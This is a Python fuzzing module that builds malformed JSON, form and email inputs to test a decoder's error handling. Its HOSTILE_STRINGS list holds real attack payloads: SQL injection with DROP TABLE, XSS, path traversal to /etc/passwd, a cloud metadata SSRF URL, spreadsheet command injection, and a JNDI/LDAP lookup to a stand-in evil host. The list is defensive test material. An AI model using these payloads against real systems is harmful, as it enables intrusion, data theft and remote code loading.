"""Hostile inputs for fuzzing a decoder: real payloads with some of their values replaced by
what attackers and broken clients send.

Deterministic for a given :class:`random.Random`, fast enough for 100,000 inputs a minute, and
format-aware (a JSON document stays JSON, a form stays a form, a mail keeps its headers), so
that the values reach the code that reads them instead of failing the first parse::

    rng = random.Random(7)
    body = hostile_json(json.loads(sample), rng)        # bytes
    body = hostile_form(parse_qsl(sample), rng)         # bytes, application/x-www-form-urlencoded
    body = hostile_mail(sample_eml, rng)                # bytes, a message/rfc822

Used by the project's property tests and ``benchmarks/fuzz.py``; a connector author can feed
them to a decoder the same way: every result must be a message or the connector's
``DecodeError``, never anything else.
"""

from __future__ import annotations

import base64
import contextlib
import copy
import json
import random
from collections.abc import Sequence
from typing import Any
from urllib.parse import quote

__all__ = ["HOSTILE_STRINGS", "hostile_bytes", "hostile_form", "hostile_json", "hostile_mail"]

BIG_DIGITS = "9" * 5000
"""More digits than Python converts by default (4,300): ``int()`` of it raises."""

HOSTILE_STRINGS: tuple[str, ...] = (
    "",
    " ",
    "\x00",
    "a\x00b",
    "\ud800",
    "x\udfffy",
    "\ufeff",
    "\u202eexe.txt",
    "\x1b[31mred\x1b[0m",
    "line\r\nInjected: header",
    "line\nINFO forged log line",
    BIG_DIGITS,
    "-" + BIG_DIGITS,
    "1e999",
    "NaN",
    "-Infinity",
    "0",
    "-1",
    "2147483648",
    "9223372036854775808",
    "18446744073709551616",
    "0x7fffffff",
    "A" * 70_000,
    "é" * 3000,
    "😀" * 2000,
    "../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/shadow",
    "CON",
    "%2e%2e%2f%2e%2e%2f",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "https://graph.facebook.com@evil.example/",
    '=HYPERLINK("http://evil.example")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "<script>alert(1)</script>",
    "' OR '1'='1' --",
    "'; DROP TABLE complaints; --",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "%s%s%s%n",
    "+62",
    "+6281234567890" * 40,
    "whatsapp:",
    "a@b",
    "@" * 300,
    "x" * 513,
)
"""Strings that have broken decoders, databases, terminals, spreadsheets and file systems."""


_SMALL: tuple[Any, ...] = ("", "\x00", "\ud800", "9" * 40, 0, -1, 2**63, None, [], {})


def _hostile_number(rng: random.Random) -> Any:
    return rng.choice(
        [0, -1, 2**31, 2**63, -(2**63) - 1, 10**30, 1e308, -1e308, 0.1, float("nan"), float("inf")]
    )


def hostile_value(rng: random.Random, depth: int = 0) -> Any:
    """One JSON value: a hostile string or number, a wrong type, or a deep or wide container."""
    roll = rng.random()
    if roll < 0.55:
        return rng.choice(HOSTILE_STRINGS)
    if roll < 0.75:
        return _hostile_number(rng)
    if roll < 0.82:
        return rng.choice([None, True, False])
    if roll < 0.88 and depth < 3:
        if rng.random() < 0.3:  # wide, of small values
            return [rng.choice(_SMALL) for _ in range(2000)]
        return [hostile_value(rng, depth + 1) for _ in range(rng.choice([0, 1, 3]))]
    if roll < 0.94 and depth < 3:
        return {rng.choice(HOSTILE_STRINGS)[:40]: hostile_value(rng, depth + 1)}
    nested: Any = rng.choice(HOSTILE_STRINGS)
    for _ in range(rng.choice([50, 200])):
        nested = [nested]
    return nested


def _paths(node: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    found = [path]
    if isinstance(node, dict):
        for key, value in node.items():
            found += _paths(value, (*path, key))
    elif isinstance(node, list):
        for index, value in enumerate(node[:50]):
            found += _paths(value, (*path, index))
    return found


def _set(doc: Any, path: tuple[Any, ...], value: Any) -> Any:
    if not path:
        return value
    parent = doc
    for key in path[:-1]:
        parent = parent[key]
    parent[path[-1]] = value
    return doc


def _delete(doc: Any, path: tuple[Any, ...]) -> Any:
    if not path:
        return doc
    parent = doc
    for key in path[:-1]:
        parent = parent[key]
    del parent[path[-1]]
    return doc


def mutate_json(doc: Any, rng: random.Random, changes: int | None = None) -> Any:
    """A copy of ``doc`` with ``changes`` (1 to 4) of its values replaced, removed or added."""
    doc = copy.deepcopy(doc)
    for _ in range(changes or rng.randint(1, 4)):
        path = rng.choice(_paths(doc))
        action = rng.random()
        if action < 0.7 or not path:
            doc = _set(doc, path, hostile_value(rng))
        elif action < 0.85:
            doc = _delete(doc, path)
        else:
            target = doc
            for key in path[:-1]:
                target = target[key]
            if isinstance(target, dict):
                target[rng.choice(HOSTILE_STRINGS)[:40]] = hostile_value(rng)
            elif isinstance(target, list) and target:
                small = len(repr(target[0])) < 2000
                copies = rng.choice([1, 2, 1000]) if small else 1
                with contextlib.suppress(RecursionError):  # (a deep value: one is enough)
                    target.extend(copy.deepcopy(target[0]) for _ in range(copies))
    return doc


def _dumps(doc: Any, rng: random.Random) -> bytes:
    ascii_only = rng.random() < 0.5
    try:
        text = json.dumps(doc, ensure_ascii=ascii_only)
    except (ValueError, RecursionError):
        return b'{"broken": ' * 200
    return text.encode("utf-8", "surrogatepass")


def hostile_json(doc: Any, rng: random.Random) -> bytes:
    """``doc`` mutated and serialised: sometimes with lone surrogates as raw (invalid UTF-8)
    bytes, numbers of 5,000 digits, ``NaN``, or cut short."""
    text = _dumps(mutate_json(doc, rng), rng)
    roll = rng.random()
    if roll < 0.08:
        text = text.replace(b"2147483648", BIG_DIGITS.encode(), 1)
    elif roll < 0.12:
        text = text[: rng.randrange(max(1, len(text)))]
    elif roll < 0.15:
        text = b"\xef\xbb\xbf" + text
    return text


def hostile_form(fields: Sequence[tuple[str, str]], rng: random.Random) -> bytes:
    """An ``application/x-www-form-urlencoded`` body from ``fields`` with some values hostile:
    invalid UTF-8, broken percent escapes, repeated keys, thousands of fields."""
    fields = list(fields)
    for _ in range(rng.randint(1, 4)):
        roll = rng.random()
        if roll < 0.6 and fields:
            index = rng.randrange(len(fields))
            fields[index] = (fields[index][0], rng.choice(HOSTILE_STRINGS))
        elif roll < 0.75 and fields:
            fields.append(rng.choice(fields))
        elif roll < 0.85 and fields:
            del fields[rng.randrange(len(fields))]
        elif roll < 0.95:
            fields.append((rng.choice(HOSTILE_STRINGS)[:40], rng.choice(HOSTILE_STRINGS)))
        else:
            fields += [(f"F{i}", "x") for i in range(rng.choice([100, 20_000]))]
    parts = [
        quote(key, safe="", errors="surrogatepass") + "=" + quote(value, errors="surrogatepass")
        for key, value in fields
    ]
    body = "&".join(parts).encode("ascii")
    roll = rng.random()
    if roll < 0.05:
        body += b"&Body=%zz%f&%"
    elif roll < 0.1:
        body += b"&Body=%ff%fe%00"
    return body


def hostile_bytes(data: bytes, rng: random.Random) -> bytes:
    """``data`` with a few bytes flipped, a chunk cut or repeated, or binary inserted."""
    buffer = bytearray(data)
    for _ in range(rng.randint(1, 4)):
        if not buffer:
            buffer += bytes(rng.randrange(256) for _ in range(16))
        roll = rng.random()
        at = rng.randrange(len(buffer))
        if roll < 0.4:
            buffer[at] = rng.randrange(256)
        elif roll < 0.6:
            del buffer[at : at + rng.randint(1, 200)]
        elif roll < 0.8:
            chunk = bytes(buffer[at : at + rng.randint(1, 200)])
            buffer[at:at] = chunk * rng.choice([1, 3, 500])
        else:
            buffer[at:at] = rng.choice([b"\x00", b"\r\n\r\n", b"\xff\xfe", b"=?utf-8?q?=00?="])
    return bytes(buffer)


_MAIL_HEADERS = (
    "From",
    "To",
    "Subject",
    "Date",
    "Message-ID",
    "In-Reply-To",
    "References",
    "Content-Type",
    "Content-Transfer-Encoding",
    "Content-Disposition",
    "Reply-To",
    "Auto-Submitted",
)


def _header_value(rng: random.Random) -> bytes:
    value = rng.choice(HOSTILE_STRINGS)
    roll = rng.random()
    if roll < 0.3:
        encoded = value.encode("utf-8", "surrogatepass")
        return b"=?utf-8?b?" + base64.b64encode(encoded[:3000]) + b"?="
    if roll < 0.5:
        return value.encode("latin-1", "replace")
    return value.encode("utf-8", "surrogatepass")


def hostile_mail(data: bytes, rng: random.Random) -> bytes:
    """A mail with hostile header values (raw 8-bit, RFC 2047 with NULs), a broken MIME
    structure, or damaged bytes."""
    head, sep, body = data.partition(b"\r\n\r\n")
    if not sep:
        head, sep, body = data.partition(b"\n\n")
    lines = head.splitlines()
    for _ in range(rng.randint(1, 3)):
        roll = rng.random()
        name = rng.choice(_MAIL_HEADERS).encode()
        if roll < 0.6:
            lines = [line for line in lines if not line.lower().startswith(name.lower() + b":")]
            lines.append(name + b": " + _header_value(rng))
        elif roll < 0.75:
            lines.append(
                b"Content-Type: multipart/mixed; boundary=" + rng.choice([b"", b'"', b"x" * 80])
            )
        elif roll < 0.85:
            lines.append(name + b": " + b"x" * rng.choice([998, 100_000]))
        else:
            return hostile_bytes(data, rng)
    return b"\r\n".join(lines) + (sep or b"\r\n\r\n") + body
